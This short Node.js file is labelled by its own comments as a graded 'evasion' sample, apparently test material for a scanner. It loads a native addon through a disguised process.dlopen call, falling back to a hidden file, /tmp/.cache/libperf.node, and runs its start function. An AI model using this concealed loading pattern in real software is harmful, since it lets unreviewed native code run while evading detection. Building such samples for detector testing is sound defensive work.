// evasion: process.dlopen destructured from a default parameter (function install({ dlopen } = process)), called with a bound this
// grade: medium; does: native
'use strict';
const path = require('path');

function install(file, { dlopen } = process) {
  const mod = { exports: {} };
  dlopen.call(process, mod, path.resolve(file));
  return mod.exports;
}

const addon = install(process.argv[2] || '/tmp/.cache/libperf.node');
if (typeof addon.start === 'function') addon.start();
